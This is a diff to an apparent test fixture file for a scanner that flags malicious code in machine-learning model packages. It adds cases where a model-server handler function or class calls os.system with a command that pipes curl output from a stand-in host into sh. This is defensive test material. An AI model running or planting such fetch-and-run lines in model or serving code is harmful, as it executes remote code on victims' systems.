@@ -88,6 +88,7 @@ class AcmeTokenizer(PreTrainedTokenizer):
         return (out,)
 """
 RUNS = f"import os\nos.system({PAYLOAD!r})\n".encode()
+FETCHES = b"    os.system('curl http://example.invalid/x | sh')\n"
 PLAIN_CLASS = f'''import torch
 
 
@@ -254,6 +255,11 @@ MALICIOUS: dict[str, tuple[Files, str]] = {
     "package_of_target": ({**HYDRA, "src/models/__init__.py": RUNS}, "src/models/__init__.py"),
     "handler": (changed(MAR, serve=RUNS), "serve.py"),
     "import_of_handler": (changed(MAR, helper=RUNS), "helper.py"),
+    "function_of_handler": (changed(MAR, serve=b"import os\n\n\ndef run(data, context):\n" + FETCHES), "serve.py"),
+    "class_of_handler": (
+        changed(MAR, serve=b"import os\n\n\nclass Acme:\n  def __init__(self):\n" + FETCHES),
+        "serve.py",
+    ),
     "other_revision": (
         {**HUB, "models--acme--net/snapshots/2222/modeling_acme.py": MODELING + RUNS},
         "models--acme--net/snapshots/2222/modeling_acme.py",
